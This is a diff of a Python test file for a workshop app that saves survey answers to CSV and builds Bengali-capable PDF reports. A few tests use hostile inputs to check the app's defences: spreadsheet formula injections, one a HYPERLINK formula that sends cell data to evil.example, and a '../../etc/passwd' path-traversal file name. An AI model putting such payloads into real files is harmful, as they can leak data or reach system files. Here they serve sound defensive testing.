@@ -3,11 +3,13 @@ and the ipywidgets apps driven from Python (callbacks, friendly errors, reset co
 
 from __future__ import annotations
 
+import base64
 import csv
 import io
 import json
 import multiprocessing
 import re
+import unicodedata
 
 import pytest
 
@@ -30,8 +32,15 @@ def _answers(value=4, **override):
 
 
 def _pdf_text(data: bytes):
+    """pypdf's text of every page, spaces collapsed, NFC.
+
+    A shaped Bengali cluster drawn as two glyphs (e.g. the vowel sign ি before its consonant)
+    carries its text on the first glyph; pypdf prints the second, text-less glyph as a control
+    character, which is dropped here (it is not text)."""
     reader = pypdf.PdfReader(io.BytesIO(data))
-    return reader, " ".join(" ".join(p.extract_text() for p in reader.pages).split())
+    text = " ".join(p.extract_text() for p in reader.pages)
+    text = "".join(ch for ch in text if unicodedata.category(ch) != "Cc" or ch in "\n\t")
+    return reader, unicodedata.normalize("NFC", " ".join(text.split()))
 
 
 # ----------------------------------------------------------------------------- recommendations
@@ -168,15 +177,58 @@ def test_best_starts_are_sorted():
 # ----------------------------------------------------------------------------- store
 
 
-def test_append_answers_writes_header_once_and_widens(store):
-    workshop.append_answers("demo", {"firm": "A", "q1": 1})
-    workshop.append_answers("demo", {"firm": "B, Ltd \"Khulna\"", "q1": 2})
-    workshop.append_answers("demo", {"firm": "C", "q1": 3, "q2": 5})
-    rows = list(csv.DictReader(open(store / "demo_answers.csv", encoding="utf-8")))
-    assert [r["firm"] for r in rows] == ["A", 'B, Ltd "Khulna"', "C"]
-    assert rows[0]["q2"] == "" and rows[2]["q2"] == "5" and all(r["saved_at"] for r in rows)
-    assert workshop.answers_csv_bytes("demo").startswith(b"saved_at,firm,q1,q2")
+def _csv_rows(path):
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte-order mark to show Bengali"
+    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"))))
+
+
+def test_answers_csv_has_bom_question_headers_and_one_row_per_participant(store):
+    labels = {"q1": "I know which markets I want to sell to", "firm": "Firm"}
+    workshop.append_answers("demo", {"firm": "A", "owner": "", "q1": 1}, labels=labels)
+    workshop.append_answers("demo", {"firm": "B, Ltd \"Khulna\"", "owner": "Mrs Akter", "q1": 2}, labels=labels)
+    workshop.append_answers("demo", {"firm": "খুলনা চিংড়ি", "owner": "রহিমা", "q1": 3, "q2": 5}, labels=labels)
+    workshop.append_answers("demo", {"firm": " b, LTD \"khulna\" ", "owner": "MRS  akter", "q1": 4}, labels=labels)
+    rows = _csv_rows(store / "demo_answers.csv")
+    header = rows[0]
+    assert "I know which markets I want to sell to [q1]" in header and "Firm [firm]" in header and "q2" in header
+    by = [dict(zip(header, r)) for r in rows[1:]]
+    assert [r["Firm [firm]"] for r in by] == ["A", "খুলনা চিংড়ি", ' b, LTD "khulna" ']  # B saved twice: replaced
+    assert by[2]["I know which markets I want to sell to [q1]"] == "4" and by[0]["q2"] == "" and by[1]["q2"] == "5"
+    saved = workshop.read_answers("demo")
+    assert saved.columns[:3].tolist() == ["saved_at", "participant", "firm"]
+    assert saved["q1"].tolist() == [1, 3, 4] and saved["firm"].tolist()[1] == "খুলনা চিংড়ি"
+    assert saved["participant"].tolist()[2] == 'b, ltd "khulna" | mrs akter'
+    assert workshop.answers_csv_bytes("demo").startswith("\ufeffSaved at [saved_at],".encode())
     assert not list(store.glob("*.tmp"))
+    # a page that saved under a name it then corrected replaces its own row
+    workshop.append_answers("demo", {"firm": "Mongla Fsh", "owner": "", "q1": 2})
+    workshop.append_answers("demo", {"firm": "Mongla Fish", "owner": "", "q1": 2}, replaces="mongla fsh | ")
+    assert workshop.read_answers("demo")["firm"].tolist() == ["A", "খুলনা চিংড়ি", ' b, LTD "khulna" ', "Mongla Fish"]
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
+                                  "\t=1+1", "\r=1", "'=already quoted", "＝1+1"])
+def test_answers_csv_cells_are_formula_safe_and_round_trip(store, name):
+    workshop.append_answers("demo", {"firm": name, "owner": "o", "q1": -3})
+    rows = _csv_rows(store / "demo_answers.csv")
+    cell = dict(zip(rows[0], rows[1]))["Firm [firm]"]
+    assert cell == "'" + name and cell[0] == "'"  # Excel shows text, runs nothing
+    assert dict(zip(rows[0], rows[1]))["q1"] == "-3"  # numbers stay numbers
+    saved = workshop.read_answers("demo")
+    assert saved["firm"].tolist() == [name] and saved["q1"].tolist() == [-3]
+    workshop.append_answers("demo", {"firm": name, "owner": "o", "q1": -2})  # saved again: replaced
+    assert workshop.read_answers("demo")["q1"].tolist() == [-2]
+
+
+def test_band_sentence_follows_the_instrument_file():
+    import dataclasses
+
+    inst = measures.load_instrument()
+    assert workshop.readiness_app().band_sentence().startswith("The dotted lines at 40 and 70 split the scores into 3")
+    other = dataclasses.replace(inst, bands=(("low", 30), ("developing", 55), ("strong", None)))
+    text = workshop.readiness_app(other).band_sentence()
+    assert text.startswith("The dotted lines at 30 and 55") and "55 and above means" in text
 
 
 def _writer(args):
@@ -187,17 +239,20 @@ def _writer(args):
     from sme_teach.workshop import append_answers
 
     for i in range(25):
-        append_answers("race", {"firm": f"firm{k}", "i": i, "text": "x" * 200})
+        append_answers("race", {"firm": f"firm{k}", "owner": f"owner{i}", "i": i, "text": "x" * 200})
+        append_answers("race", {"firm": f"firm{k}", "owner": f"owner{i}", "i": i, "text": "y" * 200})  # saved again
 
 
-def test_concurrent_appends_lose_nothing(store):
+def test_concurrent_saves_lose_nothing_and_duplicate_nothing(store):
     store.mkdir(parents=True, exist_ok=True)
     ctx = multiprocessing.get_context("spawn")
     with ctx.Pool(4) as pool:
         pool.map(_writer, [(str(store), k) for k in range(4)])
-    rows = list(csv.DictReader(open(store / "race_answers.csv", encoding="utf-8")))
+    rows = list(csv.DictReader(open(store / "race_answers.csv", encoding="utf-8-sig")))
     assert len(rows) == 100
-    assert sorted((r["firm"], int(r["i"])) for r in rows) == sorted((f"firm{k}", i) for k in range(4) for i in range(25))
+    assert sorted((r["Firm [firm]"], int(r["i"])) for r in rows) == sorted(
+        (f"firm{k}", i) for k in range(4) for i in range(25))
+    assert {r["text"] for r in rows} == {"y" * 200}
 
 
 def test_workshop_dir_default(monkeypatch, tmp_path):
@@ -209,21 +264,77 @@ def test_workshop_dir_default(monkeypatch, tmp_path):
 # ----------------------------------------------------------------------------- report
 
 
-def test_report_is_one_page_even_with_long_lists():
-    recs = [{"step": "Do something useful. " * 8, "quote": "A long quoted sentence. " * 6, "citation": "X (2016)"}] * 12
-    pdf = workshop.one_page_report(
+def _text_x_positions(reader):
+    """(page, x in pt) of every text chunk drawn (pypdf's visitor)."""
+    out = []
+    for n, page in enumerate(reader.pages):
+        page.extract_text(visitor_text=lambda text, cm, tm, *_: text.strip() and out.append((n, tm[4] * cm[0] + cm[4])))
+    return out
+
+
+def test_report_wraps_and_lists_every_answer_on_more_pages():
+    recs = [{"step": "Do something useful. " * 8, "quote": "A long quoted sentence. " * 6, "citation": "X (2016)"}] * 5
+    long_answer = ", ".join(["Joint marketing", "Information sharing", "Joint production", "Shared training",
+                             "Joint purchasing", "Collective lobbying", "Subcontracting"])
+    answers = [(f"Question {i} about how your firm sells abroad today and tomorrow", "4 Mostly") for i in range(40)]
+    answers.append(("Ways of working together", long_answer))
+    report = workshop._report.make_report(
         title="Readiness", firm="Rūpsha Jute Works", owner="Mrs Akter", headline="Overall 55 of 100",
-        scores=[(f"Area {i}", f"{i} / 100") for i in range(20)], answers=[(f"Question {i}", "4 Mostly") for i in range(40)],
-        chart_png=None, chart_alt="", recommendations=recs, note="A note.")
-    reader, text = _pdf_text(pdf)
-    assert len(reader.pages) == 1
-    assert "Rūpsha Jute Works" in text and "Overall 55 of 100" in text
+        scores=[(f"Area {i} with a label long enough to need two lines", f"{i} / 100") for i in range(20)],
+        answers=answers, chart_png=None, chart_alt="", recommendations=recs, note="A note.")
+    reader, text = _pdf_text(report.pdf)
+    assert len(reader.pages) == report.pages >= 2 and report.replaced == ()
+    assert "Rūpsha Jute Works" in text and "Overall 55 of 100" in text and "…" not in text
+    assert all(f"Question {i} about" in text for i in range(40)) and "Your answers (continued)" in text
+    assert long_answer.replace(", ", " ") in text.replace(", ", " ")  # wrapped, every word there
     assert reader.metadata.title == "Readiness - Rūpsha Jute Works"
+    width = float(reader.pages[0].mediabox.width)
+    xs = _text_x_positions(reader)
+    assert xs and max(x for _, x in xs) < width - 14 * 72 / 25.4, "text starts beyond the right margin"
+
+
+def test_report_prints_bengali_names_shaped_and_replaces_emoji_visibly(test_output):
+    if not workshop._report.font_files()["bengali"]:
+        pytest.fail("Noto Sans Bengali is missing: run scripts/ensure_fonts.sh (make test does)")
+    firm, owner = "খুলনা চিংড়ি প্রসেসিং", "রহিমা আক্তার"
+    report = workshop._report.make_report(
+        title="Readiness", firm=firm + " 🐟", owner=owner, headline="Overall 55 of 100", scores=[("Overall", "55")],
+        answers=[("Firm name", firm)], chart_png=None, chart_alt="", recommendations=[])
+    reader, text = _pdf_text(report.pdf)
+    assert unicodedata.normalize("NFC", firm) in text and unicodedata.normalize("NFC", owner) in text
+    assert report.replaced == ("🐟",) and workshop._report.REPLACEMENT in text and "🐟" not in text
+    fonts = {str(f["/BaseFont"]) for f in (reader.pages[0]["/Resources"]["/Font"][k].get_object()
+                                            for k in reader.pages[0]["/Resources"]["/Font"])}
+    assert any("NotoSansBengali" in f for f in fonts) and any("DejaVuSans" in f for f in fonts), fonts
+    # shaped: the conjunct ক্ত (in আক্তার) is one glyph, so fewer glyphs than characters are drawn
+    import uharfbuzz as hb
+
+    blob = hb.Blob.from_file_path(str(workshop._report.font_files()["bengali"][0]))
+    buf = hb.Buffer()
+    buf.add_str("ক্ত")
+    buf.guess_segment_properties()
+    hb.shape(hb.Font(hb.Face(blob)), buf, {})
+    assert len(buf.glyph_infos) < 3
+    assert workshop._report.unshown_characters(firm, "A 🐟 B") == ["🐟"]
+    # a page to look at: test-output/workshop_report_bengali-1.png (pdftoppm from poppler-utils, scripts/ensure_fonts.sh)
+    import shutil
+    import subprocess
+
+    if not shutil.which("pdftoppm"):
+        pytest.fail("pdftoppm is missing: run scripts/ensure_fonts.sh (make test does)")
+    (test_output / "workshop_report_bengali.pdf").write_bytes(report.pdf)
+    subprocess.run(["pdftoppm", "-png", "-r", "110", "-f", "1", "-l", "1", str(test_output / "workshop_report_bengali.pdf"),
+                    str(test_output / "workshop_report_bengali")], check=True, timeout=60)
+    assert (test_output / "workshop_report_bengali-1.png").stat().st_size > 5000
 
 
 def test_report_filename_is_safe():
     assert workshop.report_filename("../../etc/passwd") == "report_etc_passwd.pdf"
     assert workshop.report_filename("   ") == "report_my_firm.pdf"
+    assert workshop.report_filename("খুলনা চিংড়ি প্রসেস") == "report_খুলনা_চিংড়ি_প্রসেস.pdf"  # marks kept
+    assert workshop.report_filename("🐟🐟") == "report_my_firm.pdf"
+    assert workshop.report_filename("--rf " + "ক্ত" * 40).startswith("report_rf_ক্ত")
+    assert not workshop.report_filename("ক" + "্ত" * 40)[:-4].endswith("্")
 
 
 # ----------------------------------------------------------------------------- apps driven from Python
@@ -246,10 +357,14 @@ def test_readiness_app_flow(store):
 
     data = base64.b64decode(re.search(r'base64,([^"]+)"', app.report_link.value).group(1))
     reader, text = _pdf_text(data)
-    assert len(reader.pages) == 1 and "Rupsha Jute Works" in text and "Innovation" in text
-    # changing an answer hides the now-outdated report link
+    assert "Rupsha Jute Works" in text and "Innovation" in text and "…" not in text
+    assert all(" ".join(t.split()) in text for t in app.instrument.items["text"]), "every answer is listed"
+    assert "The dotted lines at 40 and 70 split the scores into 3 bands" in text
+    assert "Press the blue button" in app.status.value
+    # changing an answer hides the now-outdated report link, and the status follows
     app.items["cur_1"].value = 2
-    assert app.report_link.value == ""
+    assert app.report_link.value == "" and "Press the blue button" not in app.status.value
+    assert "old report was removed" in app.status.value
     app.save_button.click()
     assert "Saved" in app.status.value
     assert "1 saved answer " in app.count.value and "Download all answers (CSV)" in app.csv_link.value
@@ -261,6 +376,69 @@ def test_readiness_app_flow(store):
     app.reset_button.click()
     app.confirm_yes.click()
     assert app.firm.value == "" and all(w.value is None for w in app.items.values())
+
+
+def test_a_new_name_invalidates_the_report_and_the_status_follows(store):
+    app = workshop.spillover_app()
+    app.firm.value = "Rupsha Jute Works"
+    app.report_button.click()
+    assert "report-link" in app.report_link.value and "Press the blue button" in app.status.value
+    app.firm.value = "খুলনা চিংড়ি"  # the next participant types only a new name
+    assert app.report_link.value == "" and "Press the blue button" not in app.status.value
+    assert "name changed" in app.status.value
+    app.report_button.click()
+    assert 'download="report_খুলনা_চিংড়ি.pdf"' in app.report_link.value
+    app.owner.value = "রহিমা"
+    assert app.report_link.value == "" and "Press the blue button" not in app.status.value
+    # an emoji in the name: the report is made, the page says what it cannot print
+    app.firm.value = "Fish 🐟"
+    app.report_button.click()
+    assert "report-link" in app.report_link.value and "cannot print 🐟" in app.status.value
+    assert "sme-msg-warn" in app.status.value
+
+
+def test_without_a_bengali_font_the_page_says_so(store, monkeypatch):
+    monkeypatch.setattr(workshop._report, "_BENGALI_DIRS", ())
+    app = workshop.spillover_app()
+    app.firm.value = "খুলনা চিংড়ি"
+    app.report_button.click()
+    data = base64.b64decode(re.search(r'base64,([^"]+)"', app.report_link.value).group(1))
+    _, text = _pdf_text(data)
+    assert "lacks the Noto Sans Bengali font" in app.status.value and "sme-msg-warn" in app.status.value
+    assert "খ" not in text and workshop._report.REPLACEMENT in text
+
+
+def test_saving_twice_keeps_one_row_and_start_again_starts_a_new_participant(store):
+    app = workshop.alliance_app()
+    app.alliances["joint_marketing"].value = True
+    app.firm.value = "Mongla Fsh"
+    app.save_button.click()
+    app.firm.value = "Mongla Fish"  # a typo fixed, saved again from the same page
+    app.save_button.click()
+    assert workshop.read_answers("alliance")["firm"].tolist() == ["Mongla Fish"]
+    app.save_button.click()
+    assert "Saved again" in app.status.value and len(workshop.read_answers("alliance")) == 1
+    app.reset_button.click()
+    app.confirm_yes.click()
+    app.alliances["joint_marketing"].value = True
+    app.firm.value = "Mongla Fsh"  # a different participant on the same laptop
+    app.save_button.click()
+    assert workshop.read_answers("alliance")["firm"].tolist() == ["Mongla Fish", "Mongla Fsh"]
+    header = _csv_rows(store / "alliance_answers.csv")[0]
+    assert "Ways of working together [alliances]" in header and "Firm [firm]" in header
+
+
+def test_alliance_report_states_the_moderation_rule(store):
+    app = workshop.alliance_app()
+    app.alliances["joint_marketing"].value = True
+    app.weakest_link.value = True
+    next(iter(app.moderators.values())).value = 1
+    app.firm.value = "Khulna Leather"
+    app.report_button.click()
+    data = base64.b64decode(re.search(r'base64,([^"]+)"', app.report_link.value).group(1))
+    _, text = _pdf_text(data)
+    assert "0 / 100" in text and "only the weakest condition counts" in text
+    assert "it is the rule, not a mistake" in text and "Not at all = 0%" in text
 
 
 def test_unexpected_errors_are_logged_not_shown(store, monkeypatch):
